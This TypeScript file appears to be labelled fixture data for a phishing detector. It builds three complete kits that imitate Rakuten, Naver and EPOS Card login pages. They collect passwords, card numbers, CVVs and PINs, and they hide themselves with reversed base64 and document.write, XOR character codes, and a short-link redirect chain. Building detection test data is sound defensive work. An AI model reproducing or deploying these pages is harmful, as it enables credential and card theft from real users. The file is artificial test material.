import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, b64 } from '../parts/yj-kit.js';

// Kits that hide themselves.

const rakutenInner = doc({
  lang: 'ja',
  title: '楽天会員ログイン',
  css: `body{background:#fff}.w{max-width:400px;margin:0 auto;padding:30px 18px}.lg{text-align:center;margin-bottom:18px}input{width:100%;padding:13px;border:1px solid #aaa;border-radius:6px;font-size:16px;margin:6px 0 12px}
button{width:100%;background:#bf0000;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px}.m{font-size:13px;background:#fff5f5;padding:10px;border-radius:6px}`,
  body: `<div class="w"><div class="lg">${wordmark('Rakuten', '#bf0000', { w: 130, size: 28 })}</div><p class="m">楽天ポイントの有効期限が近づいています（期間限定ポイント 12,480 pt）。ログインしてポイントの延長手続きを行ってください。</p>
<form method="post" action="/rk/post.php"><input name="u" placeholder="ユーザIDまたはメールアドレス"><input name="p" type="password" placeholder="パスワード"><input name="c" placeholder="カード番号（ポイント延長の本人確認）"><input name="e" placeholder="有効期限 MM/YY"><input name="s" placeholder="セキュリティコード"><button>ログイン</button></form></div>`,
});

const naverInner = `<div style="max-width:460px;margin:0 auto;padding:50px 20px;font-family:'Malgun Gothic',sans-serif">
<div style="text-align:center;color:#03c75a;font-size:40px;font-weight:900;margin-bottom:24px">NAVER</div>
<div style="background:#fff;border:1px solid #dadada;border-radius:6px;padding:22px">
<p style="font-size:13px;background:#f0fbf4;padding:10px;border-radius:4px">회원님의 네이버 계정이 개인정보 보호를 위해 일시 잠금되었습니다. 로그인하여 본인확인을 진행하세요.</p>
<form method="post" action="/nid/login_ok.php"><input name="id" placeholder="아이디" style="width:100%;padding:14px;border:1px solid #dadada;font-size:16px"><input name="pw" type="password" placeholder="비밀번호" style="width:100%;padding:14px;border:1px solid #dadada;border-top:0;font-size:16px">
<button style="width:100%;margin-top:16px;background:#03c75a;color:#fff;border:0;border-radius:6px;padding:14px;font-size:17px">로그인</button></form></div></div>`;
const xorKey = 41;
const naverCodes = Array.from(naverInner).map((c) => c.charCodeAt(0) ^ xorKey).join(',');

export const entries: Entry[] = [
  // yj-rakuten-docwrite-b64
{
  id: 'yj-rakuten-docwrite-b64',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://rakuten-pt.member-extend.cn/rk/index.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><meta name="viewport" content="width=device-width,initial-scale=1"><title>&#27005;&#22825;</title></head><body>
<script>var _$_d=["${b64(rakutenInner).split('').reverse().join('')}"];
(function(s){var r=s.split("").reverse().join("");document.open();document.write(decodeURIComponent(escape(window["a"+"tob"](r))));document.close()})(_$_d[0]);</script>
<noscript>JavaScriptを有効にしてください</noscript></body></html>`,
},
  // yj-naver-charcode-kit
{
  id: 'yj-naver-charcode-kit',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://naver-secure.nid-lock.site/?acct=locked',
  body: `<!doctype html><html lang="ko"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>NAVER</title><style>body{background:#f5f6f7;margin:0}</style></head><body><div id="root"></div>
<script>
var _k=${xorKey},_c=[${naverCodes}];
function _r(a){var o="";for(var i=0;i<a.length;i++){o+=String.fromCharCode(a[i]^_k)}return o}
setTimeout(function(){document.getElementById("root").innerHTML=_r(_c);document.title="\\ub124\\uc774\\ubc84 : \\ub85c\\uadf8\\uc778"},120);
</script></body></html>`,
},
  // yj-epos-short-chain
{
  id: 'yj-epos-short-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://s.shortjp.cc/Ep7qX2',
  routes: {
    's.shortjp.cc/Ep7qX2': redirectRoute(302, 'https://click.mailtrack-jp.net/r?c=8812&u=aHR0cHM6Ly9lcG9zY2FyZC1uZXQubG9naW4tc2VjdXJlLmJ1enovbWVtYmVyL2xvZ2lu'),
    'click.mailtrack-jp.net/r': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title></title></head><body><script>var u=new URLSearchParams(location.search).get('u');setTimeout(function(){location.replace(atob(u))},300)</script></body></html>`),
    'eposcard-net.login-secure.buzz/member/login': htmlRoute(doc({
      lang: 'ja',
      title: 'エポスNet ログイン｜エポスカード',
      css: `body{background:#f6f6f6}.hd{background:#fff;padding:12px 16px;border-bottom:2px solid #e4007f}.w{max-width:480px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}
label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:16px}button{width:100%;margin-top:18px;background:#e4007f;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px}.n{font-size:13px;color:#c00}`,
      body: `<div class="hd">${wordmark('EPOS CARD', '#e4007f', { w: 150, size: 20 })}</div>
<div class="w"><h2 style="font-size:18px">エポスNet ログイン</h2><p class="n">【エポスカード】ご利用確認のお願い：不正利用防止のため、カードのご利用を一部制限しております。</p>
<form method="post" action="/member/login_check.php"><label>エポスNet ID</label><input name="loginId"><label>パスワード</label><input name="password" type="password"><label>カード番号</label><input name="cardNo"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvv"><label>カード暗証番号</label><input name="pin" type="password" maxlength="4"><button>ログイン</button></form></div>`,
    })),
  },
},
];
